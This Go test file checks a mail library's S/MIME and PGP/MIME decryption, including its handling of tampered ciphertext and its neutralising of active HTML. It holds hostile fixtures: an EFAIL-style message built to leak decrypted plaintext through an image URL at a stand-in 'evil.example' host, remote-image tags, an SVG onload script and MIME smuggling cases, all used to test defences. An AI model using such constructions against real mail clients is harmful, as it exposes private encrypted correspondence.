package treat

import (
	"bytes"
	"crypto/rand"
	"crypto/x509"
	"errors"
	"strings"
	"testing"
	"time"

	"github.com/ProtonMail/go-crypto/openpgp/armor"
	"github.com/smallstep/pkcs7"

	"github.com/mailseal/mailseal/crypto/pgpmime"
	"github.com/mailseal/mailseal/crypto/smime"
)

// htmlEntity is a message with an HTML alternative that loads a remote
// image: what EFAIL's CBC gadgets plant.
const htmlEntity = "Content-Type: multipart/alternative; boundary=\"alt\"\r\n" +
	"\r\n" +
	"--alt\r\n" +
	"Content-Type: text/plain; charset=utf-8\r\n" +
	"\r\n" +
	"Hello plain\r\n" +
	"--alt\r\n" +
	"Content-Type: text/html; charset=utf-8\r\n" +
	"Content-Transfer-Encoding: quoted-printable\r\n" +
	"\r\n" +
	"<html><body><p>Hello <b>html</b></p><img src=3D\"http://evil.example/x?\" alt=3D\"pic\"><a href=3D\"https://corp.example/\">link</a></body></html>\r\n" +
	"--alt--\r\n"

const protectedEntity = "Content-Type: text/plain; charset=utf-8; hp=\"cipher\"; protected-headers=\"v1\"\r\n" +
	"Subject: The real subject\r\n" +
	"From: bob@partner.example\r\n" +
	"HP-Outer: Subject: ...\r\n" +
	"\r\n" +
	"Secret text\r\n"

func smimeFields(enc *smime.Encrypted) []Field {
	var fs []Field
	for _, f := range enc.Header() {
		fs = append(fs, Field{f.Name, f.Value})
	}
	return fs
}

func encryptTo(t *testing.T, entity string, c smime.Cipher, rcpts ...smime.Recipient) *smime.Encrypted {
	t.Helper()
	enc, err := smime.Encrypt([]byte(entity), rcpts, smime.EncryptOptions{Cipher: c})
	if err != nil {
		t.Fatal(err)
	}
	return enc
}

func TestClassifyEncrypted(t *testing.T) {
	for ct, want := range map[string]Encryption{
		`application/pkcs7-mime; smime-type=enveloped-data; name="smime.p7m"`:   SMIMEEncrypted,
		`application/pkcs7-mime; smime-type=authEnveloped-data`:                 SMIMEEncrypted,
		`application/x-pkcs7-mime; name=smime.p7m`:                              SMIMEEncrypted,
		`application/pkcs7-mime; smime-type=signed-data`:                        NotEncrypted,
		`multipart/encrypted; protocol="application/pgp-encrypted"; boundary=x`: PGPEncrypted,
		`multipart/encrypted; protocol="application/pkcs7-mime"; boundary=x`:    NotEncrypted,
		`multipart/mixed; boundary=x`:                                           NotEncrypted,
		`text/plain`:                                                            NotEncrypted,
		`application/pkcs7-mime; smime-type=enveloped-data; a=1; a=2`:           NotEncrypted,
	} {
		if got := ClassifyEncrypted(ct); got != want {
			t.Errorf("%s: %v, want %v", ct, got, want)
		}
	}
}

func TestDecryptSMIME(t *testing.T) {
	pki := newTestPKI(t)
	rsaCert, rsaKey := pki.user("alice@corp.example", "rsa2048")
	oldCert, oldKey := pki.user("alice@corp.example", "rsa2048") // a renewed user keeps the old one
	ecCert, ecKey := pki.user("alice@corp.example", "p256")
	otherCert, otherKey := pki.user("carol@corp.example", "rsa2048")
	keys := []SMIMEKey{{otherCert, otherKey}, {rsaCert, rsaKey}, {ecCert, ecKey}, {oldCert, oldKey}}
	for _, tc := range []struct {
		name      string
		cipher    smime.Cipher
		to        smime.Recipient
		method    string
		transport string
		auth      bool
	}{
		{"cbc-rsa", smime.AES256CBC, smime.Recipient{Cert: rsaCert}, "S/MIME AES-256-CBC", "RSA", false},
		{"gcm-rsa-oaep", smime.AES256GCM, smime.Recipient{Cert: rsaCert, KeyTransport: smime.OAEPSHA256}, "S/MIME AES-256-GCM", "RSA", true},
		{"gcm-ecdh", smime.AES256GCM, smime.Recipient{Cert: ecCert}, "S/MIME AES-256-GCM", "ECDH", true},
		{"cbc-old-cert", smime.AES256CBC, smime.Recipient{Cert: oldCert, BySKI: true}, "S/MIME AES-256-CBC", "RSA", false},
	} {
		t.Run(tc.name, func(t *testing.T) {
			enc := encryptTo(t, protectedEntity, tc.cipher, tc.to)
			d, err := DecryptSMIME(smimeFields(enc), enc.Body, keys)
			if err != nil {
				t.Fatal(err)
			}
			if d.Method != tc.method || d.KeyTransport != tc.transport || d.Authenticated != tc.auth {
				t.Errorf("method %q transport %q auth %v", d.Method, d.KeyTransport, d.Authenticated)
			}
			if !d.Cert.Equal(tc.to.Cert) {
				t.Errorf("opened with %v, want %v", d.Cert.SerialNumber, tc.to.Cert.SerialNumber)
			}
			if string(d.Entity.Body) != "Secret text\r\n" || !strings.Contains(d.Entity.ContentType(), "text/plain") {
				t.Errorf("entity %q %q", d.Entity.ContentType(), d.Entity.Body)
			}
			for _, f := range d.Entity.Fields {
				if !isContentField(f.Name) {
					t.Errorf("non-content field %s in the entity's fields", f.Name)
				}
			}
			if len(d.Restored) != 1 || d.Restored[0].Value != "The real subject" {
				t.Errorf("restored %v", d.Restored)
			}
			if d.Neutralised {
				t.Error("text/plain neutralised")
			}
		})
	}
	t.Run("not-for-us", func(t *testing.T) {
		enc := encryptTo(t, protectedEntity, smime.AES256GCM, smime.Recipient{Cert: otherCert})
		if _, err := DecryptSMIME(smimeFields(enc), enc.Body, keys[1:]); !errors.Is(err, ErrNotForKeys) {
			t.Fatalf("err %v, want ErrNotForKeys", err)
		}
	})
	t.Run("wrong-key", func(t *testing.T) {
		// Our certificate, someone else's key: fails, never plaintext.
		enc := encryptTo(t, protectedEntity, smime.AES256GCM, smime.Recipient{Cert: rsaCert})
		d, err := DecryptSMIME(smimeFields(enc), enc.Body, []SMIMEKey{{rsaCert, otherKey}})
		if !errors.Is(err, ErrDecryptFailed) || d != nil {
			t.Fatalf("err %v, d %v; want ErrDecryptFailed", err, d)
		}
	})
}

// derBody re-encodes DER as an S/MIME body.
func derBody(der []byte) []byte {
	return base64Lines(der)
}

func derOfBody(t *testing.T, body []byte) []byte {
	t.Helper()
	der, err := decodeTransfer("base64", body)
	if err != nil {
		t.Fatal(err)
	}
	return der
}

// shrinkTail removes n octets from the end of a DER structure and fixes
// the lengths of every element that ends there: a validly encoded, but
// truncated, ciphertext.
func shrinkTail(t *testing.T, der []byte, n int) []byte {
	t.Helper()
	var walk func(b []byte) []byte
	walk = func(b []byte) []byte {
		tag := b[0]
		l, hl := int(b[1]), 2
		if l&0x80 != 0 {
			k := l & 0x7f
			l = 0
			for i := 0; i < k; i++ {
				l = l<<8 | int(b[2+i])
			}
			hl = 2 + k
		}
		content := b[hl : hl+l]
		if tag&0x20 == 0 { // primitive: the ciphertext (or MAC)
			return encodeTLV(tag, content[:len(content)-n])
		}
		// Find the last child.
		off := 0
		for {
			cl, chl := int(content[off+1]), 2
			if cl&0x80 != 0 {
				k := cl & 0x7f
				cl = 0
				for i := 0; i < k; i++ {
					cl = cl<<8 | int(content[off+2+i])
				}
				chl = 2 + k
			}
			if off+chl+cl == len(content) {
				return encodeTLV(tag, append(append([]byte{}, content[:off]...), walk(content[off:])...))
			}
			off += chl + cl
		}
	}
	return walk(der)
}

func encodeTLV(tag byte, content []byte) []byte {
	l := len(content)
	var hdr []byte
	switch {
	case l < 0x80:
		hdr = []byte{tag, byte(l)}
	case l < 0x100:
		hdr = []byte{tag, 0x81, byte(l)}
	case l < 0x10000:
		hdr = []byte{tag, 0x82, byte(l >> 8), byte(l)}
	default:
		hdr = []byte{tag, 0x83, byte(l >> 16), byte(l >> 8), byte(l)}
	}
	return append(hdr, content...)
}

// TestDecryptSMIMEHostile: altered or damaged ciphertext never yields
// plaintext and never panics.
func TestDecryptSMIMEHostile(t *testing.T) {
	pki := newTestPKI(t)
	cert, key := pki.user("alice@corp.example", "rsa2048")
	keys := []SMIMEKey{{cert, key}}
	entity := protectedEntity // 148 octets: CBC pads with 12
	pad := 16 - len(entity)%16

	cbc := derOfBody(t, encryptTo(t, entity, smime.AES256CBC, smime.Recipient{Cert: cert}).Body)
	gcm := derOfBody(t, encryptTo(t, entity, smime.AES256GCM, smime.Recipient{Cert: cert}).Body)
	cbcFields := smimeFields(encryptTo(t, "x", smime.AES256CBC, smime.Recipient{Cert: cert}))
	gcmFields := smimeFields(encryptTo(t, "x", smime.AES256GCM, smime.Recipient{Cert: cert}))
	alter := func(der []byte, i int, x byte) []byte {
		b := append([]byte{}, der...)
		b[i] ^= x
		return b
	}
	for _, tc := range []struct {
		name   string
		fields []Field
		der    []byte
		want   error
	}{
		// The CBC ciphertext ends the DER: flipping the second-to-last
		// block sets the last plaintext byte to 0xFF, bad padding.
		{"cbc-padding-0xff", cbcFields, alter(cbc, len(cbc)-17, byte(pad)^0xFF), ErrDecryptFailed},
		{"cbc-tampered-block", cbcFields, alter(cbc, len(cbc)-1, 0x01), ErrDecryptFailed},
		{"cbc-not-whole-blocks", cbcFields, shrinkTail(t, cbc, 5), ErrMalformed},
		{"cbc-truncated-block", cbcFields, shrinkTail(t, cbc, 16), ErrDecryptFailed},
		{"cbc-cut-der", cbcFields, cbc[:len(cbc)-40], ErrMalformed},
		// GCM: ciphertext, then the 16-octet MAC (04 10 …).
		{"gcm-bad-tag", gcmFields, alter(gcm, len(gcm)-1, 0x80), ErrDecryptFailed},
		{"gcm-tampered-ciphertext", gcmFields, alter(gcm, len(gcm)-19, 0x01), ErrDecryptFailed},
		{"gcm-truncated-mac", gcmFields, shrinkTail(t, gcm, 4), ErrMalformed},
		{"gcm-cut-der", gcmFields, gcm[:len(gcm)/2], ErrMalformed},
		{"empty", cbcFields, nil, ErrMalformed},
		{"garbage", cbcFields, []byte("\x30\x80\x06\x09garbage"), ErrMalformed},
	} {
		t.Run(tc.name, func(t *testing.T) {
			d, err := DecryptSMIME(tc.fields, derBody(tc.der), keys)
			if d != nil || !errors.Is(err, tc.want) {
				t.Fatalf("d %v, err %v; want %v", d, err, tc.want)
			}
		})
	}
	t.Run("signed-data-without-smime-type", func(t *testing.T) {
		sd, err := pkcs7.NewSignedData([]byte(protectedEntity))
		if err != nil {
			t.Fatal(err)
		}
		if err := sd.AddSigner(cert, key, pkcs7.SignerInfoConfig{}); err != nil {
			t.Fatal(err)
		}
		der, err := sd.Finish()
		if err != nil {
			t.Fatal(err)
		}
		if _, err := DecryptSMIME([]Field{{"Content-Type", "application/pkcs7-mime"}}, derBody(der), keys); !errors.Is(err, ErrNotEncrypted) {
			t.Fatalf("err %v, want ErrNotEncrypted", err)
		}
	})
	t.Run("bad-base64", func(t *testing.T) {
		if _, err := DecryptSMIME(cbcFields, []byte("!!!not base64!!!"), keys); !errors.Is(err, ErrMalformed) {
			t.Fatalf("err %v", err)
		}
	})
}

// TestDecryptCBCNeutralisesHTML: unauthenticated content loses its active
// HTML; authenticated content and intact signed content keep every byte.
func TestDecryptCBCNeutralisesHTML(t *testing.T) {
	pki := newTestPKI(t)
	cert, key := pki.user("alice@corp.example", "rsa2048")
	keys := []SMIMEKey{{cert, key}}

	cbc := encryptTo(t, htmlEntity, smime.AES256CBC, smime.Recipient{Cert: cert})
	d, err := DecryptSMIME(smimeFields(cbc), cbc.Body, keys)
	if err != nil {
		t.Fatal(err)
	}
	if !d.Neutralised || d.SignedIntact {
		t.Fatalf("neutralised %v, intact %v", d.Neutralised, d.SignedIntact)
	}
	out := string(d.Entity.Bytes())
	if strings.Contains(strings.ToLower(out), "text/html") || strings.Contains(out, "evil.example") && !strings.Contains(out, NeutralisedNote) {
		t.Fatalf("HTML survived:\n%s", out)
	}
	if !strings.Contains(out, "Hello plain") {
		t.Errorf("plain alternative lost:\n%s", out)
	}
	// The HTML part is now text: decode it and look.
	parts, err := splitMultipart(d.Entity.Body, "alt")
	if err != nil || len(parts) != 2 {
		t.Fatalf("parts %d, %v", len(parts), err)
	}
	pf, pb, _ := splitHeader(parts[1])
	text := string(decodePart(fieldValue(pf, "Content-Transfer-Encoding"), pb))
	if !strings.HasPrefix(fieldValue(pf, "Content-Type"), "text/plain") || !strings.Contains(text, "Hello html") ||
		!strings.Contains(text, "link <https://corp.example/>") || strings.Contains(text, "<img") {
		t.Errorf("converted part %v:\n%s", pf, text)
	}

	gcm := encryptTo(t, htmlEntity, smime.AES256GCM, smime.Recipient{Cert: cert})
	d, err = DecryptSMIME(smimeFields(gcm), gcm.Body, keys)
	if err != nil {
		t.Fatal(err)
	}
	if d.Neutralised || !bytes.Contains(d.Entity.Body, []byte("text/html")) {
		t.Error("authenticated (GCM) content was changed")
	}

	// Signed, then CBC-encrypted: the signature shows the content intact.
	signer, err := smime.NewSigner(key, cert, []*x509.Certificate{pki.caCert})
	if err != nil {
		t.Fatal(err)
	}
	signed, err := signer.SignEntity([]byte(htmlEntity))
	if err != nil {
		t.Fatal(err)
	}
	enc, err := smime.EncryptSigned(signed, []smime.Recipient{{Cert: cert}}, smime.EncryptOptions{})
	if err != nil {
		t.Fatal(err)
	}
	d, err = DecryptSMIME(smimeFields(enc), enc.Body, keys)
	if err != nil {
		t.Fatal(err)
	}
	if !d.SignedIntact || d.Neutralised || !bytes.Equal(d.Entity.Body, signed.Body) {
		t.Fatalf("signed CBC: intact %v, neutralised %v, body equal %v", d.SignedIntact, d.Neutralised, bytes.Equal(d.Entity.Body, signed.Body))
	}
	// The same with one byte of the signed part changed: not intact.
	altered := bytes.Replace(signed.Body, []byte("Hello plain"), []byte("Hello PLAIN"), 1)
	if signedIntact(&Entity{Fields: []Field{{"Content-Type", signed.ContentType}}, Body: altered}) {
		t.Fatal("altered signed content reported intact")
	}
	e, changed := Neutralise(&Entity{Fields: []Field{{"Content-Type", signed.ContentType}}, Body: altered})
	if !changed || bytes.Contains(e.Body, []byte("text/html")) {
		t.Fatal("altered signed content not neutralised")
	}
}

func TestNeutralise(t *testing.T) {
	for _, tc := range []struct {
		name, ct, body string
		changed        bool
		hostile        bool
	}{
		{"plain", "text/plain", "hi <img src=x>\r\n", false, false},
		{"html", "text/html", "<p>hi</p><img src=\"http://evil/\">\r\n", true, false},
		{"svg", "image/svg+xml", "<svg onload=alert(1)/>\r\n", true, false},
		{"bad-type-html", "text/html; a=1; a=2", "<img src=\"http://evil/\">\r\n", true, false},
		{"two-boundaries", "multipart/mixed; boundary=x; boundary=y", "--x\r\nContent-Type: text/html\r\n\r\n<img src=\"http://evil/\">\r\n--x--\r\n", true, true},
		{"two-content-types", "multipart/mixed; boundary=x", "--x\r\nContent-Type: text/plain\r\nContent-Type: text/html\r\n\r\n<img src=\"http://evil/\">\r\n--x--\r\n", true, true},
		{"no-boundary", "multipart/mixed", "--x\r\n\r\nhi\r\n--x--\r\n", true, true},
		{"no-delimiter", "multipart/mixed; boundary=x", "<img src=\"http://evil/\">\r\n", true, true},
		{"nested-rfc822", "multipart/mixed; boundary=x", "--x\r\nContent-Type: message/rfc822\r\n\r\nSubject: fwd\r\nContent-Type: text/html\r\n\r\n<img src=\"http://evil/\">\r\n--x--\r\n", true, false},
		{"digest-default-rfc822", "multipart/digest; boundary=x", "--x\r\n\r\nContent-Type: text/html\r\n\r\n<img src=\"http://evil/\">\r\n--x--\r\n", true, false},
		{"rfc822-base64", "message/rfc822", "Content-Transfer-Encoding: base64\r\n\r\nPGltZz4=\r\n", false, false},
		{"image", "image/png", "\x89PNG\r\n", false, false},
	} {
		t.Run(tc.name, func(t *testing.T) {
			e, changed := Neutralise(&Entity{Fields: []Field{{"MIME-Version", "1.0"}, {"Content-Type", tc.ct}}, Body: []byte(tc.body)})
			if changed != tc.changed {
				t.Fatalf("changed %v", changed)
			}
			if !changed {
				return
			}
			out := string(e.Bytes())
			if tc.hostile != strings.Contains(out, "decrypted-message.bin") {
				t.Fatalf("hostile wrap %v:\n%s", tc.hostile, out)
			}
			if !tc.hostile && (strings.Contains(out, "<img") || strings.Contains(out, "<svg") || strings.Contains(strings.ToLower(out), "text/html")) {
				t.Fatalf("active content left:\n%s", out)
			}
			if fieldValue(e.Fields, "MIME-Version") == "" {
				t.Error("MIME-Version lost")
			}
		})
	}
}

// A message/rfc822 part sent base64 (not allowed, yet some readers decode
// it) cannot be looked into without decoding: the whole is wrapped.
func TestNeutraliseEncodedMessagePart(t *testing.T) {
	body := "--x\r\nContent-Type: message/rfc822\r\nContent-Transfer-Encoding: base64\r\n\r\n" +
		"Q29udGVudC1UeXBlOiB0ZXh0L2h0bWwNCg0KPGltZyBzcmM9Imh0dHA6Ly9ldmlsLyI+DQo=\r\n--x--\r\n"
	e, changed := Neutralise(&Entity{Fields: []Field{{"Content-Type", "multipart/mixed; boundary=x"}}, Body: []byte(body)})
	if !changed || !bytes.Contains(e.Body, []byte("decrypted-message.bin")) {
		t.Fatalf("changed %v:\n%s", changed, e.Bytes())
	}
}

func TestDeepNestingBounded(t *testing.T) {
	var b strings.Builder
	for i := 0; i < 200; i++ {
		b.WriteString("Content-Type: multipart/mixed; boundary=b\r\n\r\n--b\r\n")
	}
	b.WriteString("Content-Type: text/html\r\n\r\n<img src=\"http://evil/\">\r\n")
	fields, body, _ := splitHeader([]byte(b.String()))
	e, changed := Neutralise(&Entity{Fields: fields, Body: body})
	if !changed || !bytes.Contains(e.Body, []byte("decrypted-message.bin")) {
		t.Fatal("too deep nesting was not wrapped")
	}
}

// efailMessage is EFAIL's direct exfiltration: an encrypted part between
// two HTML parts that would wrap its plaintext into an image URL.
func efailMessage(enc *smime.Encrypted) (string, []byte) {
	var b bytes.Buffer
	b.WriteString("--e\r\nContent-Type: text/html\r\n\r\n<img src=\"http://evil.example/?\r\n")
	b.WriteString("--e\r\n")
	for _, f := range enc.Header() {
		b.WriteString(f.Name + ": " + f.Value + "\r\n")
	}
	b.WriteString("\r\n")
	b.Write(enc.Body)
	b.WriteString("--e\r\nContent-Type: text/html\r\n\r\n\">\r\n--e--\r\n")
	return "multipart/mixed; boundary=e", b.Bytes()
}

func TestEFAILDirectExfiltrationNeverDecrypted(t *testing.T) {
	pki := newTestPKI(t)
	cert, key := pki.user("alice@corp.example", "rsa2048")
	enc := encryptTo(t, "Content-Type: text/plain\r\n\r\nthe secret\r\n", smime.AES256CBC, smime.Recipient{Cert: cert})
	ct, body := efailMessage(enc)
	if ClassifyEncrypted(ct) != NotEncrypted {
		t.Fatal("multipart/mixed classified as encrypted")
	}
	fields := []Field{{"Content-Type", ct}}
	if d, err := DecryptSMIME(fields, body, []SMIMEKey{{cert, key}}); d != nil || !errors.Is(err, ErrMalformed) {
		t.Fatalf("decrypted a nested part: %v %v", d, err)
	}
	if !NestedEncrypted(fields, body) {
		t.Fatal("nested encrypted part not noticed")
	}
	if NestedEncrypted([]Field{{"Content-Type", "multipart/mixed; boundary=x"}}, []byte("--x\r\nContent-Type: text/plain\r\n\r\nhi\r\n--x--\r\n")) {
		t.Fatal("plain multipart reported as holding encryption")
	}
}

func pgpKey(t testing.TB, email string) *pgpmime.PrivateKey {
	t.Helper()
	g, err := pgpmime.GenerateKey("", email, pgpmime.KeyOptions{Algorithm: pgpmime.Curve25519})
	if err != nil {
		t.Fatal(err)
	}
	k, err := pgpmime.ParsePrivateKey(g.Private, time.Now())
	if err != nil {
		t.Fatal(err)
	}
	return k
}

func TestDecryptPGP(t *testing.T) {
	alice, carol := pgpKey(t, "alice@corp.example"), pgpKey(t, "carol@corp.example")
	bob := pgpKey(t, "bob@partner.example")
	enc, err := EncryptPGP([]byte(protectedEntity), bob, []*pgpmime.PublicKey{alice.Public()})
	if err != nil {
		t.Fatal(err)
	}
	d, err := DecryptPGP(enc.ContentType(), enc.Body, []*pgpmime.PrivateKey{carol, alice}, nil)
	if err != nil {
		t.Fatal(err)
	}
	if d.Method != "PGP/MIME" || !d.Authenticated || d.PGPKey != alice.Info().Fingerprint || d.PGPSignerKeyID == "" ||
		d.PGPSignature != pgpmime.UnknownSigner {
		t.Errorf("%+v", d)
	}
	// With the sender's key known, the inner signature is good.
	d, err = DecryptPGP(enc.ContentType(), enc.Body, []*pgpmime.PrivateKey{alice}, []*pgpmime.PublicKey{bob.Public()})
	if err != nil || d.PGPSignature != pgpmime.SignatureGood || d.PGPSignerFingerprint != bob.Info().Fingerprint {
		t.Fatalf("with verifier: %v %+v", err, d)
	}
	if string(d.Entity.Body) != "Secret text\r\n" || len(d.Restored) != 1 || d.Restored[0].Value != "The real subject" {
		t.Errorf("body %q restored %v", d.Entity.Body, d.Restored)
	}
	if _, err := DecryptPGP(enc.ContentType(), enc.Body, []*pgpmime.PrivateKey{carol}, nil); !errors.Is(err, ErrNotForKeys) {
		t.Errorf("other key: %v", err)
	}

	// Altered ciphertext (inside the armor, checksum recomputed): the key
	// fits, the MDC does not; nothing comes out.
	bin := unarmorPart(t, enc.Body)
	bin[len(bin)-30] ^= 0x01
	ct, body := rfc3156(t, bin)
	if d, err := DecryptPGP(ct, body, []*pgpmime.PrivateKey{alice}, nil); d != nil || !errors.Is(err, ErrDecryptFailed) {
		t.Fatalf("altered: %v %v", d, err)
	}
	// Truncated: the last 40 octets (MDC and more) cut off.
	ct, body = rfc3156(t, unarmorPart(t, enc.Body)[:len(bin)-40])
	if d, err := DecryptPGP(ct, body, []*pgpmime.PrivateKey{alice}, nil); d != nil || err == nil {
		t.Fatalf("truncated: %v %v", d, err)
	}

	// Encrypted data without integrity protection (a SED packet, as
	// gpg --rfc2440 writes): refused before any decryption.
	sed := append([]byte{0xC0 | 9, 40}, make([]byte, 40)...)
	_, _ = rand.Read(sed[2:])
	ct, body = rfc3156(t, sed)
	if _, err := DecryptPGP(ct, body, []*pgpmime.PrivateKey{alice}, nil); !errors.Is(err, ErrUnprotected) {
		t.Fatalf("no MDC: %v, want ErrUnprotected", err)
	}
	if _, err := DecryptPGP(ct, []byte("garbage"), []*pgpmime.PrivateKey{alice}, nil); !errors.Is(err, ErrMalformed) {
		t.Fatalf("garbage: %v", err)
	}
}

func unarmorPart(t *testing.T, body []byte) []byte {
	t.Helper()
	i := bytes.Index(body, []byte("-----BEGIN PGP MESSAGE-----"))
	j := bytes.Index(body, []byte("-----END PGP MESSAGE-----"))
	block, err := armor.Decode(bytes.NewReader(body[i : j+len("-----END PGP MESSAGE-----")]))
	if err != nil {
		t.Fatal(err)
	}
	var b bytes.Buffer
	if _, err := b.ReadFrom(block.Body); err != nil {
		t.Fatal(err)
	}
	return b.Bytes()
}

func rfc3156(t testing.TB, bin []byte) (string, []byte) {
	var a bytes.Buffer
	w, err := armor.Encode(&a, "PGP MESSAGE", nil)
	if err != nil {
		t.Fatal(err)
	}
	w.Write(bin)
	w.Close()
	armored := strings.ReplaceAll(a.String(), "\n", "\r\n")
	body := "--p\r\nContent-Type: application/pgp-encrypted\r\n\r\nVersion: 1\r\n\r\n--p\r\n" +
		"Content-Type: application/octet-stream; name=\"encrypted.asc\"\r\n\r\n" + armored + "\r\n--p--\r\n"
	return `multipart/encrypted; protocol="application/pgp-encrypted"; boundary="p"`, []byte(body)
}

func TestCRLF(t *testing.T) {
	for in, want := range map[string]string{"a\nb\r\nc\rd": "a\r\nb\r\nc\r\nd", "x": "x", "a\r\n": "a\r\n"} {
		if got := string(crlf([]byte(in))); got != want {
			t.Errorf("%q: %q", in, got)
		}
	}
}

func TestParseEntity(t *testing.T) {
	many := strings.Repeat("X-A: b\r\n", MaxEntityFields+1) + "Content-Type: text/plain\r\n\r\nx"
	if _, err := ParseEntity([]byte(many)); !errors.Is(err, ErrMalformed) {
		t.Fatalf("%d fields: %v", MaxEntityFields+1, err)
	}
	for _, tc := range []struct{ in, ct, body string }{
		{"Content-Type: text/html\n\tcharset=x\nSubject: s\n\nbody\n", "text/html\r\n\tcharset=x", "body\r\n"},
		{"no header at all\r\nsecond line\r\n", "text/plain; charset=us-ascii", "no header at all\r\nsecond line\r\n"},
		{"Content-Type: text/plain\r\n", "text/plain", ""},
	} {
		e, err := ParseEntity([]byte(tc.in))
		if err != nil {
			t.Fatalf("%q: %v", tc.in, err)
		}
		if e.ContentType() != tc.ct || string(e.Body) != tc.body || fieldValue(e.Fields, "MIME-Version") != "1.0" {
			t.Errorf("%q: type %q body %q fields %v", tc.in, e.ContentType(), e.Body, e.Fields)
		}
		for _, f := range e.Fields {
			if strings.EqualFold(f.Name, "Subject") {
				t.Errorf("%q: Subject moved into the content fields", tc.in)
			}
		}
	}
}

func BenchmarkDecryptSMIME(b *testing.B) {
	cert, key := selfSigned(b, "rsa")
	entity := "Content-Type: application/octet-stream\r\nContent-Transfer-Encoding: base64\r\n\r\n" +
		strings.Repeat(strings.Repeat("A", 76)+"\r\n", 1<<20/78)
	for _, c := range []smime.Cipher{smime.AES256CBC, smime.AES256GCM} {
		b.Run(c.String(), func(b *testing.B) {
			enc, err := smime.Encrypt([]byte(entity), []smime.Recipient{{Cert: cert}}, smime.EncryptOptions{Cipher: c})
			if err != nil {
				b.Fatal(err)
			}
			fields := smimeFields(enc)
			b.SetBytes(int64(len(entity)))
			for b.Loop() {
				if _, err := DecryptSMIME(fields, enc.Body, []SMIMEKey{{cert, key}}); err != nil {
					b.Fatal(err)
				}
			}
		})
	}
}
